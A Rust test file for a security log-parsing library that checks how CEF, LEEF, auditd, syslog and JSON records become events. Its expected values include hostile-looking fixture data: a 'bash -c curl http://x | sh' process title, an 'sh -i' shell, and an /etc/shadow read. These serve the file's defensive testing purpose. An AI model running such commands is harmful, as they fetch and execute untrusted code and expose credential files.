//! Realistic records of every format: the tree, the profile and logsource, the time.

use std::sync::{Arc, OnceLock};

use leitstelle_event::{Event, Origin, Raw, SourceKind};
use leitstelle_parsers::{Format, ParseContext, parse, to_event};
use leitstelle_profile::ProfileSet;
use serde_json::json;

const AUDITD: &str = include_str!("fixtures/auditd.log");
const CEF: &str = include_str!("fixtures/cef.log");
const LEEF: &str = include_str!("fixtures/leef.log");
const JSON: &str = include_str!("fixtures/json.ndjson");

fn profiles() -> &'static ProfileSet {
    static SET: OnceLock<ProfileSet> = OnceLock::new();
    SET.get_or_init(ProfileSet::builtin)
}

/// Line `n` (1-based) of a fixture.
fn line(fixture: &str, n: usize) -> &str {
    fixture.lines().nth(n - 1).expect("fixture line")
}

/// Parses `record` as `format` (RFC 3164 year 2024) and makes the event.
fn event(format: Format, record: &str) -> Event {
    let parsed = parse(format, record.as_bytes(), &ParseContext::new(2024))
        .unwrap_or_else(|e| panic!("{record}: {e}"));
    to_event(profiles(), Arc::from("t1"), parsed, Origin::default())
}

/// The event's source kind, profile name, logsource and time (RFC 3339, UTC).
fn check(e: &Event, source: SourceKind, profile: &str, logsource: &str, time: Option<&str>) {
    let got_time = e.timestamp.map(|ns| {
        chrono::DateTime::from_timestamp_nanos(ns)
            .to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true)
    });
    assert_eq!(
        (
            e.source,
            profiles().get(e.profile).name.as_str(),
            e.logsource.to_string().as_str(),
            got_time.as_deref()
        ),
        (source, profile, logsource, time),
        "{}",
        e.data
    );
}

/// Every format of one record gives the same event as `auto`, where `auto` applies.
fn same_as_auto(format: Format, record: &str) {
    let ctx = ParseContext::new(2024);
    assert_eq!(
        parse(format, record.as_bytes(), &ctx),
        parse(Format::Auto, record.as_bytes(), &ctx),
        "{record}"
    );
}

#[test]
fn cef_check_point_in_rfc3164_syslog() {
    let record = line(CEF, 1);
    let e = event(Format::Cef, record);
    check(
        &e,
        SourceKind::Cef,
        "cef",
        "checkpoint/firewall/*",
        // `rt` (epoch millis), not the header's time.
        Some("2024-01-18T11:07:53Z"),
    );
    assert_eq!(
        e.data["CEF"],
        json!({"Version": "0", "DeviceVendor": "Check Point",
               "DeviceProduct": "VPN-1 & FireWall-1", "DeviceVersion": "Check Point",
               "SignatureID": "Log", "Name": "https", "Severity": "Unknown"})
    );
    assert_eq!(e.data["src"], "192.168.10.5");
    assert_eq!(e.data["cs2Label"], "Rule Name");
    assert_eq!(e.data["cs2"], "Allow web browsing");
    assert_eq!(e.data["request"], "https://example.com/?q=a=b");
    assert_eq!(e.data["deviceDirection"], "0");
    assert_eq!(
        e.data["syslog"],
        json!({"facility": "local0", "severity": "info", "timestamp": "Jan 18 11:07:53",
               "hostname": "gw-313d22", "format": "rfc3164"})
    );
    assert_eq!(e.raw, Raw::Text(Arc::from(record)));
    assert_eq!(e.tenant.as_ref(), "t1");
    same_as_auto(Format::Cef, record);
    same_as_auto(Format::Syslog, record);
}

#[test]
fn bare_cef_with_escapes() {
    let e = event(Format::Auto, line(CEF, 2));
    check(&e, SourceKind::Cef, "cef", "security/threatmanager/*", None);
    assert_eq!(e.data["CEF"]["Name"], "detected a | in message");
    assert_eq!(e.data["CEF"]["Severity"], "10");
    assert_eq!(e.data["act"], "blocked a |");
    assert_eq!(e.data["msg"], "Detected a threat.\n No action needed.");
    // Unescaped Windows paths are kept as written.
    assert_eq!(e.data["fname"], r"C:\Windows\Temp\x.exe");
    assert_eq!(e.data["cs1"], r"a=b\c");
    assert!(e.data.get("syslog").is_none());
}

#[test]
fn cef_in_rfc5424_with_a_text_receipt_time() {
    let e = event(Format::Syslog, line(CEF, 3));
    check(
        &e,
        SourceKind::Cef,
        "cef",
        "arcsight/arcsight/*",
        Some("2024-01-18T11:07:50Z"),
    );
    assert_eq!(e.data["syslog"]["app_name"], "CEF");
    assert_eq!(e.data["syslog"]["proc_id"], "4242");
    assert_eq!(e.data["suser"], "svc_arc");
}

#[test]
fn leef_1_tab_separated() {
    let e = event(Format::Leef, line(LEEF, 1));
    check(
        &e,
        SourceKind::Leef,
        "leef",
        "microsoft/msexchange/*",
        Some("2024-01-18T11:07:53Z"),
    );
    assert_eq!(
        e.data["LEEF"],
        json!({"Version": "1.0", "Vendor": "Microsoft", "Product": "MSExchange",
               "ProductVersion": "4.0 SP1", "EventID": "15345"})
    );
    assert_eq!(e.data["usrName"], "joe.black");
    assert_eq!(e.data["dstPort"], "21");
}

#[test]
fn leef_2_with_a_custom_delimiter_in_syslog() {
    let e = event(Format::Auto, line(LEEF, 2));
    // No `devTime`: the syslog header's time, in the hinted year.
    check(
        &e,
        SourceKind::Leef,
        "leef",
        "lancope/stealthwatch/*",
        Some("2024-01-18T11:07:53Z"),
    );
    assert_eq!(e.data["LEEF"]["Delimiter"], "^");
    assert_eq!(e.data["dst"], "10.0.0.5");
    // A piece without `key=` belongs to the value before it.
    assert_eq!(e.data["msg"], "a^b");
    assert_eq!(e.data["syslog"]["hostname"], "qradar-src");
}

#[test]
fn leef_2_with_a_hex_delimiter() {
    let e = event(Format::Leef, line(LEEF, 3));
    check(
        &e,
        SourceKind::Leef,
        "leef",
        "vendor/product/*",
        Some("2024-01-18T11:07:53Z"),
    );
    assert_eq!(e.data["LEEF"]["Delimiter"], "x09");
    assert_eq!(e.data["usrName"], "bob");
    assert_eq!(e.data["devTime"], "Jan 18 2024 11:07:53");
}

#[test]
fn auditd_syscall() {
    let e = event(Format::Auditd, line(AUDITD, 1));
    check(
        &e,
        SourceKind::Auditd,
        "linux-auditd",
        "linux/auditd/*",
        Some("2013-03-28T14:36:03.243Z"),
    );
    let d = &e.data;
    assert_eq!(d["type"], "SYSCALL");
    assert_eq!(
        d["audit"],
        json!({"time": "1364481363.243", "serial": "24287"})
    );
    assert_eq!(
        (d["syscall"].as_str(), d["a0"].as_str()),
        (Some("2"), Some("7fffd19c5592"))
    );
    assert_eq!(
        (d["comm"].as_str(), d["exe"].as_str()),
        (Some("cat"), Some("/bin/cat"))
    );
    assert_eq!(d["key"], "sshd_config");
    assert_eq!(
        d["subj"],
        "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"
    );
    same_as_auto(Format::Auditd, line(AUDITD, 1));
}

#[test]
fn auditd_execve_path_proctitle_with_hex() {
    let execve = event(Format::Auto, line(AUDITD, 2));
    assert_eq!(execve.data["a0"], "iptables");
    assert_eq!(execve.data["a4"], "--to-ports 4321");
    assert_eq!(execve.data["argc"], "5");
    let path = event(Format::Auto, line(AUDITD, 3));
    assert_eq!(path.data["name"], "/tmp/my dir/evil");
    assert_eq!(path.data["nametype"], "NORMAL");
    let title = event(Format::Auto, line(AUDITD, 4));
    assert_eq!(title.data["proctitle"], "bash -c curl http://x | sh");
    for e in [&execve, &path, &title] {
        check(
            e,
            SourceKind::Auditd,
            "linux-auditd",
            "linux/auditd/*",
            Some("2023-11-14T22:13:20.123Z"),
        );
        assert_eq!(e.data["audit"]["serial"], "4242");
    }
}

#[test]
fn auditd_user_records_with_nested_msg() {
    let e = event(Format::Auditd, line(AUDITD, 5));
    check(
        &e,
        SourceKind::Auditd,
        "linux-auditd",
        "linux/auditd/*",
        Some("2023-11-14T22:15:00.500Z"),
    );
    let d = &e.data;
    assert_eq!(d["type"], "USER_LOGIN");
    assert_eq!(d["auid"], "1000");
    assert_eq!(d["op"], "login");
    assert_eq!(d["exe"], "/usr/sbin/sshd");
    assert_eq!(d["addr"], "203.0.113.9");
    assert_eq!(d["res"], "success");
    assert_eq!(
        d["msg"],
        "op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=203.0.113.9 addr=203.0.113.9 terminal=/dev/pts/1 res=success"
    );
    let stop = event(Format::Auditd, line(AUDITD, 6));
    assert_eq!(
        (stop.data["unit"].as_str(), stop.data["comm"].as_str()),
        (Some("firewalld"), Some("systemd"))
    );
}

#[test]
fn auditd_enriched_and_avc() {
    let e = event(Format::Auto, line(AUDITD, 7));
    let d = &e.data;
    assert_eq!(d["node"], "web01");
    assert_eq!(
        (d["syscall"].as_str(), d["SYSCALL"].as_str()),
        (Some("103"), Some("syslog"))
    );
    assert_eq!(
        (d["AUID"].as_str(), d["ARCH"].as_str()),
        (Some("alice"), Some("x86_64"))
    );
    assert_eq!(d["key"], "(null)");
    let avc = event(Format::Auto, line(AUDITD, 8));
    assert_eq!(avc.data["text"], "avc: denied { read } for");
    assert_eq!(avc.data["tclass"], "file");
}

#[test]
fn auditd_in_syslog() {
    let record = format!("Jan 18 11:07:53 web01 audispd: {}", line(AUDITD, 1));
    let e = event(Format::Syslog, &record);
    // The record's own time wins over the header's.
    check(
        &e,
        SourceKind::Auditd,
        "linux-auditd",
        "linux/auditd/*",
        Some("2013-03-28T14:36:03.243Z"),
    );
    assert_eq!(e.data["syslog"]["app_name"], "audispd");
    assert_eq!(e.data["exe"], "/bin/cat");
    let kernel = "Jan 18 11:07:53 web01 kernel: [ 1234.5] audit: type=1400 audit(1705576073.100:99): apparmor=\"DENIED\" operation=\"open\" profile=\"snap.x\" name=\"/etc/shadow\" comm=\"x\"";
    let e = event(Format::Auditd, kernel);
    assert_eq!(
        (e.data["type"].as_str(), e.data["apparmor"].as_str()),
        (Some("1400"), Some("DENIED"))
    );
    assert_eq!(e.timestamp, Some(1_705_576_073_100_000_000));
}

#[test]
fn kubernetes_audit_event() {
    let e = event(Format::Json, line(JSON, 1));
    check(
        &e,
        SourceKind::Json,
        "kubernetes-audit",
        "kubernetes/audit/application",
        Some("2024-01-18T11:07:53.223344Z"),
    );
    assert_eq!(e.data["objectRef"]["subresource"], "exec");
    let pod = event(Format::Auto, line(JSON, 2));
    check(
        &pod,
        SourceKind::Json,
        "kubernetes-audit",
        "kubernetes/audit/application",
        Some("2024-01-18T12:00:00.050Z"),
    );
}

#[test]
fn falco_alert() {
    let e = event(Format::Auto, line(JSON, 3));
    check(
        &e,
        SourceKind::Json,
        "falco",
        "falco/syscall/*",
        Some("2024-01-18T11:07:53.445566778Z"),
    );
    assert_eq!(e.data["output_fields"]["proc.cmdline"], "sh -i");
}

#[test]
fn suricata_alert_and_dns() {
    let alert = event(Format::Json, line(JSON, 4));
    check(
        &alert,
        SourceKind::Json,
        "suricata-eve",
        "suricata/alert/*",
        Some("2024-01-18T11:07:53.654321Z"),
    );
    assert_eq!(
        alert.data["alert"]["signature"],
        "ET POLICY curl User-Agent Outbound"
    );
    let dns = event(Format::Json, line(JSON, 5));
    check(
        &dns,
        SourceKind::Json,
        "suricata-eve",
        "suricata/dns/dns",
        Some("2024-01-18T11:07:54.000100Z"),
    );
}

#[test]
fn windows_events_as_json() {
    let ecs = event(Format::Json, line(JSON, 6));
    check(
        &ecs,
        SourceKind::Json,
        "winlogbeat-ecs-security-4688",
        "windows/security/process_creation",
        Some("2024-01-18T11:07:53.901Z"),
    );
    let sysmon = event(Format::Auto, line(JSON, 7));
    check(
        &sysmon,
        SourceKind::Json,
        "windows-evtx",
        "windows/sysmon/process_creation",
        Some("2024-01-18T11:07:53.512345Z"),
    );
    // The tree is the object as received.
    let original: serde_json::Value = serde_json::from_str(line(JSON, 7)).expect("json");
    assert_eq!(sysmon.data, original);
}

#[test]
fn plain_syslog_stays_syslog() {
    let e = event(
        Format::Auto,
        "<38>Jan  5 10:00:00 myhost sshd[123]: Accepted publickey for root",
    );
    check(
        &e,
        SourceKind::Syslog,
        "syslog",
        "linux/auth/*",
        Some("2024-01-05T10:00:00Z"),
    );
    assert_eq!(e.data["message"], "Accepted publickey for root");
}

#[test]
fn trailing_line_ends_and_bom_are_not_part_of_the_record() {
    let ctx = ParseContext::new(2024);
    let a = parse(Format::Auto, b"\xef\xbb\xbfCEF:0|a|b|c|d|e|1|x=1\r\n", &ctx).expect("cef");
    assert_eq!(a.raw, Raw::Text(Arc::from("CEF:0|a|b|c|d|e|1|x=1")));
    assert_eq!(a.data["x"], "1");
}

#[test]
fn repeated_keys_keep_every_value() {
    let ctx = ParseContext::new(2024);
    let p = parse(Format::Cef, b"CEF:0|a|b|c|d|e|1|cat=x cat=y CEF=z", &ctx).expect("cef");
    assert_eq!(p.data["cat"], json!(["x", "y"]));
    // Even a key named like the header object: both kept.
    assert_eq!(p.data["CEF"][1], "z");
    assert_eq!(p.data["CEF"][0]["DeviceVendor"], "a");
}
